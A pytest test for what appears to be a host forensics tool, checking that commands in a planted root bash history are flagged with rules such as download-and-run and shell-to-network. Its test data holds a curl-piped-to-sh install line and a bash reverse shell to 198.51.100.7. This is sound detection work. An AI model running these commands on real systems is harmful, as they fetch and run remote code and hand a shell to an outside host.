from pathlib import Path

import pytest

from examine.steps.look import examined
from hemostat.model.records import TypedCommand
from made_host import make_host
from made_roots import put

HISTORY = b"ls\ncurl -fsSL https://get.docker.com | sh\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n"


@pytest.mark.requirement("B5.2")
def test_the_rules_about_behaviour_are_noted_beside_what_was_typed(tmp_path: Path) -> None:
    root = make_host(tmp_path)
    put(root, "/root/.bash_history", HISTORY)
    result = examined(root)
    rules = [each.rules for each in result.records.of(TypedCommand)]
    assert rules[0] == ()
    assert rules[1] == ("linux.command.download-and-run",)
    assert "linux.command.shell-to-network" in rules[2]
    found = {each.rule.name: each.level.word for each in result.findings}
    assert found["linux.history.intruder-command"] == "high"
    assert not [name for name in found if name.startswith("linux.command.")]
